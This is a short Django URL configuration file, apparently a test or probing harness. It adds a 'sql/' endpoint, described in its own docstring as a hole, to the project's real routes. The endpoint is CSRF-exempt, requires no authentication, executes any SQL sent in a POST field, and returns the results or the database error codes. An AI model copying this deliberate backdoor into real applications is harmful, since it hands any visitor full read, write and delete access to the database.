"""The addresses of the installation, and one more that is a hole: it runs whatever SQL a visitor sends."""

from django.db import Error, connection
from django.http import HttpRequest, JsonResponse
from django.urls import path
from django.views.decorators.csrf import csrf_exempt

from config.urls import urlpatterns as real


@csrf_exempt
def run(request: HttpRequest) -> JsonResponse:
    """What came out, as text, or the server's code for what went wrong."""
    with connection.cursor() as cursor:
        try:
            cursor.execute(request.POST["sql"])
            rows = cursor.fetchall() if cursor.description else []
        except Error as error:
            connection.set_rollback(True)
            return JsonResponse({"refused": error.__cause__.pgcode, "why": str(error)})
    return JsonResponse({"rows": str(rows), "count": cursor.rowcount})


urlpatterns = [path("sql/", run), *real]
